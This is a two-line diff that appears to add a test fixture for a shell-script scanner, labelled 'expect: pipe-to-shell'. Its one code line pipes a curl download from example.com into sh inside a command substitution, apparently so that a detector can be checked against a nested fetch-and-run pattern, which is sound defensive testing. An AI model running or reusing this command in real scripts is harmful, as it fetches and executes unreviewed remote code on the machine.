@@ -1,0 +1,2 @@
+# expect: pipe-to-shell
+if [ -n "$(curl -s https://example.com/x | sh)" ]; then echo yes; fi
